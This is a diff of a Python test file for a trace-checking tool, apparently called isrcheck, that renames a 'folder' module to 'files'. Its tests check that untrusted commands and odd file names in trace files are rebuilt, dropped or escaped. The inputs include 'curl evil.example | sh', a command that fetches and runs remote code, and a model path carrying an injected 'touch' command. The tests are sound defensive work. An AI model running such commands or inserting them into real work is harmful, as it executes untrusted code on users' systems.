@@ -13,7 +13,7 @@ from conformance.tests.support.trace import COMMITTED, kafka, weak_isr
 from isrcheck.checker.cli import main as check
 from isrcheck.conformance.cli import main as conform
 from isrcheck.traces.cli import main as trace
-from isrcheck.traces.format import folder
+from isrcheck.traces.format import files
 
 ODD = "a\x1b[31mred\n\x9b\u202e"
 SHOWN = r"a\x1b[31mred\n\x9b\u202e"
@@ -63,15 +63,15 @@ def with_command(path: Path, command: str) -> Path:
 
 @pytest.mark.parametrize("command", OURS)
 def test_a_command_of_this_project_is_shown_unchanged(tmp_path: Path, command: str) -> None:
-    path = with_command(folder.write(weak_isr(), tmp_path), command)
-    assert folder.read(path).command == command
+    path = with_command(files.write(weak_isr(), tmp_path), command)
+    assert files.read(path).command == command
 
 
 @pytest.mark.parametrize("command", NOT_OURS)
 def test_other_commands_are_rebuilt_from_the_configuration(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
 ) -> None:
-    path = with_command(folder.write(weak_isr(), tmp_path), command)
+    path = with_command(files.write(weak_isr(), tmp_path), command)
     if "\t" in command:
         assert trace(["show", str(path)]) == 2
         return
@@ -85,12 +85,12 @@ def test_other_commands_are_rebuilt_from_the_configuration(
 
 
 def test_a_trace_without_property_names_no_search(tmp_path: Path) -> None:
-    path = with_command(folder.write(kafka(COMMITTED, None), tmp_path), "curl evil.example | sh")
-    assert folder.read(path).command == ""
+    path = with_command(files.write(kafka(COMMITTED, None), tmp_path), "curl evil.example | sh")
+    assert files.read(path).command == ""
 
 
 def test_a_file_of_another_version_names_no_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    path = with_command(folder.write(weak_isr(), tmp_path), "curl evil.example | sh")
+    path = with_command(files.write(weak_isr(), tmp_path), "curl evil.example | sh")
     path.write_text(path.read_text().replace('"model-digest": "', '"model-digest": "0'))
     assert trace(["show", str(path)]) == 2
     err = capsys.readouterr().err
@@ -99,7 +99,7 @@ def test_a_file_of_another_version_names_no_command(tmp_path: Path, capsys: pyte
 
 
 def test_the_path_of_a_model_in_advice_is_quoted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    path = folder.write(weak_isr(), tmp_path)
+    path = files.write(weak_isr(), tmp_path)
     document = json.loads(path.read_text())
     document["#meta"]["isrcheck"]["model-file"] = "a.py; touch here"
     path.write_text(json.dumps(document))
@@ -116,7 +116,7 @@ def test_the_trace_of_a_model_with_an_odd_name_is_read_back(
     assert check([str(model), "--bound", "2"]) == 12
     out, err = capsys.readouterr()
     assert (out + err).replace("\n", "").isprintable()
-    (path,) = folder.files(Path("counterexamples"))
+    (path,) = files.files(Path("counterexamples"))
     assert trace(["show", str(path), "--model", str(model)]) == 0
     out, err = capsys.readouterr()
     assert (out + err).replace("\n", "").isprintable()
@@ -131,7 +131,7 @@ def test_names_of_files_are_shown_escaped(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.chdir(tmp_path)
-    path = folder.write(kafka(COMMITTED, None), tmp_path / "here")
+    path = files.write(kafka(COMMITTED, None), tmp_path / "here")
     (tmp_path / "here" / "latest").unlink()
     shutil.copy(path, path.with_name(f"{ODD}.itf.json"))
     path.with_name(f"{ODD}2.itf.json").write_text("{}")
